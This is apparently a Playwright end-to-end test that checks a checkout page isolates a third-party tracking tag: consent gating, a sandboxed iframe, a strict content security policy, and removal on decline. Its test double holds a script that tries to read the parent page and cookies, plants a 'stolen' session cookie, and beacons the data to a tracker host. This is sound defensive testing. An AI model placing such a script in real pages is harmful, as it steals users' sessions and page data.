import { expect, test, type BrowserContext } from '@playwright/test'
import { contracts } from '../../../../src/shared/contracts/index.ts'
import {
  callRemote,
  openRemoteShop,
  payRemote,
  readyRemoteSession,
  requireOk,
  type Remote,
} from '../../../support/e2e/remote-shop.ts'
import { openShadows } from '../../../support/e2e/shop-surface.ts'
import { watch } from '../../../support/e2e/watched-page.ts'

const server = (): Remote => ({ url: process.env.E2E_URL ?? '' })

interface Reported {
  call: { name: string; revenue?: string; orderid?: string }
  /** What the script can read of the page around it. */
  page: string
  cookies: string
}

/** Taboola's script: reports every call, and tries to reach the page and other cookies. */
const SCRIPT = `(() => {
  const attempt = (read) => { try { return String(read()) } catch { return 'blocked' } }
  const report = (call) => {
    const page = attempt(() => parent.document.body.innerHTML) + ',' + attempt(() => top.document.forms.length)
    const sent = { call, page, cookies: document.cookie }
    new Image().src = 'https://trc.taboola.com/double?' + new URLSearchParams({ sent: JSON.stringify(sent) })
  }
  document.cookie = '_gcl_au=1.1.5; path=/; max-age=3600'
  document.cookie = 'session_id=stolen; path=/'
  for (const call of window._tfa) report(call)
  window._tfa = { push: report }
})()`

/** Doubles of Taboola's hosts. Returns the loaded scripts and the reported calls. */
async function doubleTaboola(context: BrowserContext) {
  const [scripts, calls]: [string[], Reported[]] = [[], []]
  await context.route('https://cdn.taboola.com/**', async (route) => {
    scripts.push(route.request().url())
    await route.fulfill({ contentType: 'text/javascript', body: SCRIPT })
  })
  await context.route('https://trc.taboola.com/**', async (route) => {
    calls.push(JSON.parse(new URL(route.request().url()).searchParams.get('sent') ?? '') as Reported)
    await route.fulfill({ status: 204 })
  })
  return { scripts, calls }
}

test('runs a tag only after consent, out of reach of the page, and stops it when consent is withdrawn', async ({
  page,
  context,
}) => {
  const watched = watch(context)
  const { scripts, calls } = await doubleTaboola(context)
  const shop = await openRemoteShop(server())
  const { store_id, token } = shop
  const body = { store_id, name: 'taboola' as const, fields: { account_id: '1234567' } }
  const settings = { sent_from: 'browser' as const, sends_test_mode: true }
  requireOk(await callRemote(server(), contracts.integrations.update, { body: { ...body, ...settings } }, { token }))
  const session = await readyRemoteSession(server(), shop)
  await openShadows(page)
  const reply = await page.goto(`/checkout?session=${session._id}`)
  // The tag's hosts are allowed in its own frame only.
  expect(reply?.headers()['content-security-policy']).not.toContain('taboola')
  const banner = page.getByRole('region', { name: 'Your privacy' })
  await expect(banner).toBeVisible()
  await expect(page.locator('iframe[title="taboola"]')).toHaveCount(0)
  expect(scripts).toEqual([])

  const reported = page.waitForRequest(
    (request) => request.url().endsWith('/api/consent/record') && (request.postData() ?? '').includes('_gcl_au'),
  )
  await banner.getByRole('button', { name: 'Accept' }).click()
  await expect.poll(() => calls.map(({ call }) => call.name)).toEqual(['page_view', 'start_checkout'])
  expect(scripts).toEqual(['https://cdn.taboola.com/libtrc/unip/1234567/tfa.js'])
  expect(calls[0]).toMatchObject({ page: 'blocked,blocked' })
  // Its cookies reach the server; no other name can be set.
  expect((await reported).postDataJSON()).toMatchObject({ cookies: { _gcl_au: '1.1.5' } })
  const cookies = await context.cookies()
  expect(cookies.find(({ name }) => name === '_gcl_au')?.value).toBe('1.1.5')
  expect(cookies.some(({ value }) => value === 'stolen')).toBe(false)

  requireOk(await payRemote(server(), session, '4242424242424242'))
  await page.goto(`/confirmation?session=${session._id}`)
  await expect
    .poll(() => calls.find(({ call }) => call.name === 'make_purchase')?.call)
    .toMatchObject({ revenue: (session.total / 100).toString(), currency: 'USD' })

  const frames = page.locator('iframe[title="taboola"]')
  await expect(frames).toHaveCount(1)
  await page.getByRole('button', { name: 'Privacy choices' }).click()
  await banner.getByRole('button', { name: 'Decline' }).click()
  await expect(frames).toHaveCount(0)
  expect((await context.cookies()).some(({ name }) => name === '_gcl_au')).toBe(false)
  watched.expectQuiet()
})

test('serves a frame only for a connected tool that sends from the browser', async ({ request }) => {
  const shop = await openRemoteShop(server())
  const { store_id, token } = shop
  expect((await request.get(`/tags/${store_id}/taboola`)).status()).toBe(404)
  const body = { store_id, name: 'taboola' as const, fields: { account_id: '1234567' } }
  requireOk(await callRemote(server(), contracts.integrations.update, { body }, { token }))
  expect((await request.get(`/tags/${store_id}/taboola`)).status()).toBe(404)
  const { data } = requireOk(
    await callRemote(server(), contracts.integrations.details, { query: { store_id, name: 'taboola' } }, { token }),
  )
  const change = { store_id, name: 'taboola' as const, sent_from: 'browser' as const, version: data.version }
  requireOk(await callRemote(server(), contracts.integrations.update, { body: change }, { token }))
  const frame = await request.get(`/tags/${store_id}/taboola`)
  expect(frame.status()).toBe(200)
  expect(frame.headers()['content-security-policy']).toMatch(
    /^sandbox allow-scripts; default-src 'none'; script-src 'sha256-/,
  )
  expect((await request.get(`/tags/${store_id}/meta-pixel`)).status()).toBe(404)
})
